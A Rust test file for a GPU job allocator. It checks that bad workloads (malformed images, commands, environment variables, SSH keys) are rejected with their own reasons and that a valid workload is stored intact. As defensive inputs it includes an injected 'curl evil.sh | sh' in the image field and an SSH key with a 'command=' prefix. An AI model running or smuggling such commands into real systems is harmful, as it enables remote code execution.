//! The workload a `job.allocate` carries, through the allocator's handler: every bad part is
//! answered `job.rejected` with its own reason before anything is placed (no job item, no GPU
//! taken), a request from before workloads is answered `image_missing` rather than dead-lettered
//! unanswered, and a good workload is stored on the job and read back whole.

use std::sync::Arc;

use chrono::{DateTime, TimeZone, Utc};
use serde_json::json;
use worldland_adapters::replies::MemoryReplies;
use worldland_adapters::state::memory::MemoryStore;
use worldland_core::bus::{Bus, QueueSpec, Subscription};
use worldland_core::job;
use worldland_core::messages::jobs::{EnvVar, Workload};
use worldland_core::messages::topics;
use worldland_core::state::{ItemStore, Table};
use worldland_core::worker::{Failure, Handler};
use worldland_core::workload::test_keys;
use worldland_provider_sdk::simulated::SimulatedProvider;
use worldland_tests::{event_sink, seed_available};

/// A fixture key, as one line.
fn key(text: &str) -> String {
    text.trim_end().to_string()
}

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 27, 12, 0, 0).unwrap()
}

struct Fixture {
    store: Arc<dyn ItemStore>,
    handler: allocator::Allocator,
    events: Box<dyn Subscription>,
}

impl Fixture {
    async fn new() -> Self {
        let store: Arc<dyn ItemStore> = Arc::new(MemoryStore::new());
        seed_available(store.as_ref(), &SimulatedProvider::new(3, t0()).registration, t0()).await;
        let bus = event_sink();
        let events = bus
            .subscribe(&QueueSpec::new(topics::JOB_EVENTS_QUEUE, topics::JOB_EVENTS))
            .await
            .unwrap();
        let ctx = allocator::Context::new(store.clone(), bus, Arc::new(MemoryReplies::default()));
        Self {
            store,
            handler: allocator::Allocator(ctx),
            events,
        }
    }

    /// The job events published since the last call: (routing key, body).
    async fn drain(&mut self) -> Vec<(String, serde_json::Value)> {
        let mut out = vec![];
        while let Ok(Some(d)) = tokio::time::timeout(std::time::Duration::from_millis(20), self.events.next()).await {
            out.push((d.routing_key.clone(), serde_json::from_slice(&d.body).unwrap()));
            d.ack().await.unwrap();
        }
        out
    }
}

fn request(job: &str) -> serde_json::Value {
    json!({"job_id": job, "customer_id": "c", "gpus": 1, "cpu_cores": 1, "memory_mb": 1024,
           "image": "docker.io/library/python:3.12-slim"})
}

#[tokio::test]
async fn each_bad_workload_is_answered_with_its_reason_and_nothing_is_placed() {
    let mut fx = Fixture::new().await;
    let set = |field: &str, v: serde_json::Value| {
        let mut r = request("job-w");
        r[field] = v;
        r
    };
    let mut before_workloads = request("job-w");
    before_workloads.as_object_mut().unwrap().remove("image");
    let private = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----";
    let cases: Vec<(&str, serde_json::Value, &str)> = vec![
        ("a request from before workloads", before_workloads, "image_missing"),
        ("an empty image", set("image", json!("")), "image_missing"),
        (
            "an upper-case image",
            set("image", json!("docker.io/Library/Python")),
            "invalid_image",
        ),
        (
            "a shell line for an image",
            set("image", json!("python; curl evil.sh | sh")),
            "invalid_image",
        ),
        ("a bad digest", set("image", json!("python@sha256:1234")), "invalid_image"),
        ("a NUL in the command", set("command", json!(["py\u{0}thon"])), "invalid_command"),
        ("65 args", set("args", json!(vec!["x"; 65])), "invalid_command"),
        ("an empty program", set("command", json!([""])), "invalid_command"),
        (
            "every GPU on the node",
            set("env", json!([{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}])),
            "invalid_env",
        ),
        (
            "a name twice",
            set("env", json!([{"name": "A", "value": "1"}, {"name": "A", "value": "2"}])),
            "invalid_env",
        ),
        (
            "a dash in a name",
            set("env", json!([{"name": "MY-VAR", "value": "1"}])),
            "invalid_env",
        ),
        ("a private key", set("ssh_public_key", json!(private)), "invalid_ssh_key"),
        (
            "a certificate",
            set("ssh_public_key", json!(key(test_keys::ED25519_CERT))),
            "invalid_ssh_key",
        ),
        (
            "an options prefix",
            set("ssh_public_key", json!(format!("command=\"sh\" {}", key(test_keys::ED25519)))),
            "invalid_ssh_key",
        ),
        (
            "two keys",
            set(
                "ssh_public_key",
                json!(format!("{}\n{}", key(test_keys::ED25519), key(test_keys::RSA3072))),
            ),
            "invalid_ssh_key",
        ),
        ("a password", set("ssh_public_key", json!("hunter2")), "invalid_ssh_key"),
        (
            "rsa 2048",
            set("ssh_public_key", json!(key(test_keys::RSA2048))),
            "ssh_key_too_weak",
        ),
        ("dsa", set("ssh_public_key", json!(key(test_keys::DSA))), "ssh_key_too_weak"),
    ];
    let before = (
        fx.store.scan(Table::Providers).await.unwrap(),
        fx.store.scan(Table::Jobs).await.unwrap(),
    );
    for (name, body, reason) in cases {
        let body = serde_json::to_vec(&body).unwrap();
        match fx.handler.handle(topics::JOB_ALLOCATE, &body, t0()).await {
            Err(Failure::Refuse(r)) => assert_eq!(r.reason.code(), reason, "{name}: {}", r.message),
            other => panic!("{name}: expected {reason}, got {other:?}"),
        }
        let ev = fx.drain().await;
        assert_eq!(ev.len(), 1, "{name}: answered once, {ev:?}");
        assert_eq!(
            (ev[0].0.as_str(), ev[0].1["reason"].as_str()),
            (topics::JOB_REJECTED, Some(reason)),
            "{name}"
        );
        assert!(
            !ev[0].1["message"].as_str().unwrap().contains("b3BlbnNzaC1rZXkt"),
            "{name}: a key echoed"
        );
        let after = (
            fx.store.scan(Table::Providers).await.unwrap(),
            fx.store.scan(Table::Jobs).await.unwrap(),
        );
        assert_eq!(after, before, "{name}: something was placed or stored");
    }
}

#[tokio::test]
async fn a_good_workload_is_placed_and_the_job_gives_it_back() {
    let mut fx = Fixture::new().await;
    let mut body = request("job-good");
    body["image"] = json!(format!("nvcr.io/nvidia/pytorch:24.05-py3@sha256:{}", "0f".repeat(32)));
    body["command"] = json!(["python", "-u"]);
    body["args"] = json!(["train.py", "--epochs", "3"]);
    body["env"] = json!([{"name": "HF_HOME", "value": "/data/hf"}, {"name": "EMPTY", "value": ""}]);
    body["ssh_public_key"] = json!(key(test_keys::ED25519));
    fx.handler
        .handle(topics::JOB_ALLOCATE, &serde_json::to_vec(&body).unwrap(), t0())
        .await
        .unwrap();
    let ev = fx.drain().await;
    assert_eq!(ev[0].0, topics::JOB_ALLOCATED, "{:?}", ev[0].1);
    let item = fx.store.get(Table::Jobs, "job-good").await.unwrap().unwrap();
    let want = Workload {
        command: vec!["python".into(), "-u".into()],
        args: vec!["train.py".into(), "--epochs".into(), "3".into()],
        env: vec![
            EnvVar {
                name: "HF_HOME".into(),
                value: "/data/hf".into(),
            },
            EnvVar {
                name: "EMPTY".into(),
                value: String::new(),
            },
        ],
        ssh_public_key: Some(key(test_keys::ED25519)),
        ..Workload::of_image(body["image"].as_str().unwrap())
    };
    assert_eq!(job::workload("job-good", &item).unwrap(), Some(want));
}
